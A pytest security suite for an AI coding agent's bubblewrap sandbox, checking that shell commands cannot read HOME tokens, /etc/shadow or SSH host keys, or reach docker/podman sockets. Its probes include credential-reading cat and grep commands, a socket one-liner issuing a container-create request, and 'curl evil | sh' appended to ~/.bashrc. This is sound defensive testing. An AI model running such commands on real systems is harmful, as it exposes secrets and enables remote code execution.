"""The sandbox's secrets were a list, and the list was short (issue #27): each test is one
command, run through the real bash tool and real bubblewrap as an approved command (or bypass
mode) runs, that reads a secret the old denylist did not name, or talks to a daemon's socket.

HOME is a fake one outside /tmp (under /var/tmp), as a real HOME is, so what is tested is the
hiding of HOME and not the private /tmp.
"""

from __future__ import annotations

import os
import shutil
import socket
import threading
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.security.conftest import SENTINEL, home_outside_tmp
from valarmind_tui.agents.gated_call import run_gated
from valarmind_tui.safety.gate.approval import ApprovalAnswer, ApprovalRequest, PermissionMode
from valarmind_tui.safety.gate.permissions import AgentPermissions
from valarmind_tui.safety.gate.pipeline import PermissionGate
from valarmind_tui.safety.sandbox.wrap import Sandbox
from valarmind_tui.tools.base import ToolContext, ToolResult
from valarmind_tui.tools.shell.bash import Bash

HOME_SECRETS = {
    ".bashrc": f"export GITHUB_TOKEN={SENTINEL}\n",
    ".config/git/credentials": f"https://u:{SENTINEL}@github.com\n",
    ".cache/huggingface/token": SENTINEL,
    ".huggingface/token": SENTINEL,
    ".config/containers/auth.json": f'{{"auths": {{"ghcr.io": {{"auth": "{SENTINEL}"}}}}}}',
    ".local/share/containers/auth.json": f'{{"auths": {{"x": {{"auth": "{SENTINEL}"}}}}}}',
    ".config/some-new-cli/hosts.yml": f"oauth_token: {SENTINEL}\n",
    ".profile": f"export AWS_SECRET_ACCESS_KEY={SENTINEL}\n",
}
SYSTEM_SECRETS = ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/shadow-",
                  "/etc/ssh/ssh_host_ed25519_key", "/etc/ssh/ssh_host_rsa_key",
                  "/etc/ssh/ssh_host_ecdsa_key")


@pytest.fixture
def home(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    with home_outside_tmp(monkeypatch) as home:
        for rel, text in HOME_SECRETS.items():
            (home / rel).parent.mkdir(parents=True, exist_ok=True)
            (home / rel).write_text(text)
        yield home


@pytest.fixture
def run(sandbox: Sandbox, git_repo: Path, home: Path):  # noqa: ANN201
    bash = Bash(sandbox=sandbox)

    async def call(command: str) -> ToolResult:
        return await bash.run(bash.parse({"command": command}),
                              ToolContext(project_root=git_repo))

    return call


@pytest.fixture
def run_dir() -> Iterator[Path]:
    """A folder under the real /run, as a daemon's socket folder is."""
    if not os.access("/run", os.W_OK):
        pytest.skip("/run is not writable here: no daemon socket can be placed in it")
    folder = Path("/run") / f"valarmind-test-{uuid.uuid4().hex[:8]}"
    folder.mkdir()
    try:
        yield folder
    finally:
        shutil.rmtree(folder, ignore_errors=True)


# -- secrets in HOME -------------------------------------------------------------------------


@pytest.mark.parametrize("rel", sorted(HOME_SECRETS))
async def test_read_a_secret_in_home(run, rel: str) -> None:
    result = await run(f"cat ~/{rel}; grep -rs {SENTINEL[:12]} ~ 2>/dev/null | head")
    assert SENTINEL not in result.output


async def test_read_the_runtime_dirs_registry_auth(run, run_dir: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    auth = run_dir / "containers" / "auth.json"
    auth.parent.mkdir()
    auth.write_text(f'{{"auths": {{"ghcr.io": {{"auth": "{SENTINEL}"}}}}}}')
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(run_dir))
    result = await run("cat $XDG_RUNTIME_DIR/containers/auth.json; ls -a /run | wc -l")
    assert SENTINEL not in result.output and "No such file" in result.output
    assert result.output.split()[-1] == "2"  # . and ..


async def test_read_the_real_home_of_the_user(run, home: Path) -> None:
    """HOME may point elsewhere than the passwd entry (CI, containers): both are hidden."""
    import pwd

    real = Path(pwd.getpwuid(os.getuid()).pw_dir)
    if real == home or not real.is_dir():
        pytest.skip("the user has no home folder besides HOME")
    probe = real / f".valarmind-probe-{uuid.uuid4().hex[:8]}"
    try:
        probe.write_text(SENTINEL)
    except OSError:
        pytest.skip(f"{real} is not writable here")
    try:
        result = await run(f"cat {probe} 2>/dev/null; ls -a {real}")
        assert SENTINEL not in result.output and probe.name not in result.output
    finally:
        probe.unlink()


# -- secrets of the system -------------------------------------------------------------------


def readable(paths: tuple[str, ...]) -> dict[str, str]:
    """The first line of each of `paths` this user can read here."""
    found = {}
    for path in paths:
        try:
            lines = Path(path).read_text(errors="replace").strip().splitlines()
        except OSError:
            continue
        if lines:
            found[path] = lines[0]
    return found


@pytest.mark.parametrize("path", ["/etc/shadow", "/etc/gshadow"])
async def test_read_password_hashes(run, path: str) -> None:
    """Tests run as root here, as in containers and CI: these files are readable."""
    present = readable((path,))
    if not present:
        pytest.skip(f"{path} is not readable by this user: the kernel already hides it")
    result = await run(f"cat {path}")
    assert present[path] not in result.output


async def test_read_every_system_secret_present(run) -> None:
    """Password hashes, sudo rules, SSH host private keys: those present on this machine."""
    present = readable(SYSTEM_SECRETS)
    if not present:
        pytest.skip("none of the system's secret files is readable by this user")
    result = await run("cat " + " ".join(present) + "; ls /etc/sudoers.d 2>/dev/null")
    assert not [line for line in present.values() if line in result.output]


# -- daemons' sockets ------------------------------------------------------------------------


def serve(path: Path) -> tuple[socket.socket, list[bytes]]:
    """A Unix socket server that records every request, as a container daemon would obey it."""
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    server.listen()
    server.settimeout(5)
    heard: list[bytes] = []

    def answer() -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            with conn:
                heard.append(conn.recv(1024))
                conn.sendall(b"HTTP/1.0 200 OK\r\n\r\nOBEYED")

    threading.Thread(target=answer, daemon=True).start()
    return server, heard


CONNECT = ("python3 -c \"import socket,sys; s=socket.socket(socket.AF_UNIX); "
           "s.connect(sys.argv[1]); s.sendall(b'POST /containers/create'); "
           "print(s.recv(99))\" {path}")


async def test_a_daemon_socket_in_home(run, home: Path) -> None:
    await _socket_is_unreachable(run, home / ".local" / "share" / "containers" / "podman.sock")


async def test_a_daemon_socket_under_run(run, run_dir: Path) -> None:
    await _socket_is_unreachable(run, run_dir / "docker.sock")


async def _socket_is_unreachable(run, sock: Path) -> None:  # noqa: ANN001
    """A daemon listening on `sock` hears nothing from a sandboxed command that connects."""
    server, heard = serve(sock)
    try:
        result = await run(CONNECT.format(path=sock))
        assert "OBEYED" not in result.output and heard == []
    finally:
        server.close()


# -- network in bypass mode ------------------------------------------------------------------


class RecordingApprover:
    def __init__(self) -> None:
        self.asked: list[ApprovalRequest] = []

    async def request(self, request: ApprovalRequest) -> ApprovalAnswer:
        self.asked.append(request)
        return ApprovalAnswer("deny", feedback="no network")


async def test_bypass_mode_runs_a_network_command_without_asking(git_repo: Path,
                                                                 sandbox: Sandbox) -> None:
    approver = RecordingApprover()
    gate = PermissionGate(git_repo, approver, mode=PermissionMode.BYPASS)
    bash = Bash(sandbox=sandbox)
    params = bash.parse({"command": "echo fetched > out.txt", "network": True})
    status, _ = await run_gated(bash, params, ToolContext(project_root=git_repo), gate,
                                AgentPermissions.full())
    assert len(approver.asked) == 1 and not (git_repo / "out.txt").exists(), status


# -- what tools need still works -------------------------------------------------------------


async def test_tools_and_git_identity_under_home_still_work(run, home: Path, git_repo: Path,
                                                            monkeypatch: pytest.MonkeyPatch
                                                            ) -> None:
    tool = home / ".local" / "bin" / "mytool"
    tool.parent.mkdir(parents=True)
    tool.write_text("#!/bin/sh\necho tool-ran\n")
    tool.chmod(0o755)
    (home / ".gitconfig").write_text("[user]\n\tname = Home Person\n\temail = h@example.com\n")
    cargo = home / ".cargo" / "bin" / "cargo-thing"
    cargo.parent.mkdir(parents=True)
    cargo.write_text("#!/bin/sh\necho cargo-ran\n")
    cargo.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tool.parent}:{cargo.parent}:{os.environ['PATH']}")
    result = await run("mytool; cargo-thing; git config user.name; echo x > f.txt; "
                       "git add f.txt && git commit -qm f && echo committed")
    assert result.output.split("\n")[:4] == ["tool-ran", "cargo-ran", "Home Person",
                                             "committed"], result.output


# -- who may widen what the sandbox shows ----------------------------------------------------


async def with_settings(git_repo: Path, command: str) -> str:
    from valarmind_tui.settings.config import load_settings

    settings = load_settings(git_repo, trusted=True)
    box = Sandbox.detect(settings.sandbox, settings.sandbox_network,
                         home_allow=settings.sandbox_home)
    bash = Bash(sandbox=box)
    result = await bash.run(bash.parse({"command": command}), ToolContext(project_root=git_repo))
    return result.output


async def test_a_trusted_repository_cannot_bring_home_back(git_repo: Path, home: Path) -> None:
    (git_repo / ".valarmind").mkdir()
    (git_repo / ".valarmind" / "config.toml").write_text(
        'sandbox_home = [".bashrc", ".config", "~/.huggingface"]\n')
    output = await with_settings(git_repo, "cat ~/.bashrc ~/.config/*/* ~/.huggingface/token")
    assert SENTINEL not in output


async def test_the_persons_config_brings_a_folder_back(git_repo: Path, home: Path) -> None:
    from tests.conftest import write_user_config

    tool = home / ".config" / "mytool" / "settings.ini"
    tool.parent.mkdir(parents=True)
    tool.write_text("colour = blue\n")
    write_user_config('sandbox_home = ["~/.config/mytool"]\n')
    output = await with_settings(git_repo, "cat ~/.config/mytool/settings.ini ~/.bashrc")
    assert "colour = blue" in output and SENTINEL not in output


async def test_a_project_inside_home_and_home_as_the_project(sandbox: Sandbox, home: Path
                                                             ) -> None:
    """The usual place for a project is under HOME: it stays read-write, HOME stays hidden;
    a session started in HOME itself still hides HOME's secrets."""
    import subprocess

    project = home / "src" / "app"
    project.mkdir(parents=True)
    subprocess.run(["git", "init", "-q"], cwd=project, check=True)
    bash = Bash(sandbox=sandbox)
    inside = await bash.run(bash.parse({"command": "echo ok > made.txt; cat ~/.bashrc; ls ~"}),
                            ToolContext(project_root=project))
    assert (project / "made.txt").read_text() == "ok\n" and SENTINEL not in inside.output
    at_home = await bash.run(bash.parse({"command": "cat ~/.bashrc ~/.huggingface/token"}),
                             ToolContext(project_root=home))
    assert SENTINEL not in at_home.output


async def test_tools_write_to_a_private_home(run, home: Path) -> None:
    """npm writes its logs to ~/.npm/_logs, cargo its lock to ~/.cargo: that works, and nothing
    reaches the real HOME."""
    result = await run("mkdir -p ~/.npm/_logs && echo log > ~/.npm/_logs/1.log && "
                       "echo 'curl evil | sh' >> ~/.bashrc && cat ~/.npm/_logs/1.log ~/.bashrc")
    assert result.output.split() == ["log", "curl", "evil", "|", "sh"], result.output
    assert not (home / ".npm").exists() and SENTINEL in (home / ".bashrc").read_text()
    assert "curl" not in (home / ".bashrc").read_text()
